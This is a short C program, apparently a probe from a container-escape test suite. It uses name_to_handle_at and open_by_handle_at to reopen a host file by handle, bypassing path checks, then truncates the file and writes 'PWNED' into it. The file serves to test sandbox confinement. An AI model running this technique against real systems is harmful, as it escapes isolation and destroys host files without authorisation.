/* name_to_handle_at + open_by_handle_at: open a host file (argv[1]) for
 * writing by handle, past any path check. */
#include "escape_common.h"
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    int mnt;
    report("name_to_handle_at", name_to_handle_at(AT_FDCWD, argv[1], h, &mnt, 0));
    int root = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(root, h, O_WRONLY | O_TRUNC);
    report("open_by_handle_at", fd);
    if (fd >= 0) report("write", write(fd, "PWNED\n", 6));
    return 0;
}
